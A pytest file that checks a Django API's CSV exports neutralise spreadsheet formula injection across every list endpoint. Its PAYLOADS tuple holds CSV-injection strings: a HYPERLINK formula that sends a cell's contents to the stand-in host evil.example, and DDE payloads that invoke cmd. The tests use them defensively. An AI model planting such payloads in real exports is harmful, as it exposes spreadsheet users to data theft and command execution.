"""CSV exports are safe to open in a spreadsheet: text a cluster (or anyone who can create objects in it)
wrote that looks like a formula comes back inert, with OWASP's leading ``'``, on every export."""

from __future__ import annotations

import csv
import io

import pytest
from django.db.models import F, Value
from django.db.models.functions import Concat

from tests.api.test_endpoints import LISTS
from web.renderers import CSVRenderer, neutralise

# One payload per character OWASP lists; the first is the review's example.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def poison(name: str, payload: str) -> str:
    """Write the payload into a column of the objects behind one list endpoint; return that column."""
    from fleet.models import (
        AllocationSample,
        Cluster,
        Device,
        DeviceClass,
        GpuState,
        Node,
        Pod,
        ResourceClaim,
        ResourceSlice,
        SchedulingEvent,
        WatchCursor,
    )

    target = {
        "clusters": (Cluster, "description", "description"),
        "streams": (WatchCursor, "last_error", "last_error"),
        "nodes": (Node, "gpu_product", "gpu_product"),
        "devices": (Device, "product_name", "product_name"),
        "gpus": (GpuState, "product_name", "product_name"),  # the GPU API reads the read model
        "slices": (ResourceSlice, "pool", "pool"),
        "device-classes": (DeviceClass, "extended_resource_name", "extended_resource_name"),
        "claims": (ResourceClaim, "owner_pod_name", "owner_pod_name"),
        "pods": (Pod, "scheduled_message", "scheduled_message"),
        "events": (SchedulingEvent, "message", "message"),
        "pending": (Pod, "scheduled_message", "scheduler_message"),
        "leaks": (ResourceClaim, "owner_pod_name", "owner_pod_name"),
        "history": (AllocationSample, "profile", "profile"),
    }
    model, field, column = target[name]  # a KeyError: a new list endpoint needs its column here
    # Prefixed to what was there: some columns are part of a unique key.
    model._default_manager.update(**{field: Concat(Value(payload), F(field))})
    return column


def assert_inert(body: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(body)))
    for row in rows:
        for key, value in row.items():
            assert not key.startswith(DANGEROUS), key
            if value.startswith(DANGEROUS):
                float(value)  # a number such as -3 is a value, not a formula; anything else fails here
    return rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_quotes_every_formula_start_and_leaves_numbers_alone(payload):
    body = CSVRenderer().render([{"text": payload, "n": -3, "label": {payload: payload}}]).decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["text"] == "'" + payload
    assert row["n"] == "-3"
    assert row["label." + payload] == "'" + payload  # the column is "label.…": it starts with a letter
    assert neutralise("  =1+1") == "'  =1+1"  # spreadsheets trim leading spaces before parsing
    assert neutralise("plain text = fine") == "plain text = fine"


@pytest.fixture
def everything(fixture_fleet, sim_fleet):
    from claims.tasks import recompute_diagnoses
    from fleet.tasks.history import sample_allocation

    recompute_diagnoses("fixtures")
    sample_allocation()


@pytest.mark.usefixtures("everything")
@pytest.mark.parametrize("name", list(LISTS))
def test_a_formula_in_cluster_data_comes_back_inert_from_the_list_csv(api, name):
    payload = PAYLOADS[len(name) % len(PAYLOADS)]
    column = poison(name, payload)
    response = api.get(f"/api/v1/{name}/", {"page_size": 50, "format": "csv"})
    assert response.status_code == 200, response.content[:300]
    rows = assert_inert(response.content.decode())
    assert rows and any(row[column].startswith("'" + payload) for row in rows), (name, rows[:1])


@pytest.mark.usefixtures("fixture_fleet")
def test_a_formula_in_a_node_label_comes_back_inert(api):
    from fleet.models import Node

    Node.objects.update(labels={"team": PAYLOADS[0], PAYLOADS[1]: "x"})
    rows = assert_inert(api.get("/api/v1/nodes/", {"format": "csv"}).content.decode())
    assert rows[0]["labels.team"] == "'" + PAYLOADS[0]
    assert rows[0]["labels." + PAYLOADS[1]] == "x"  # a key is a column header after "labels."
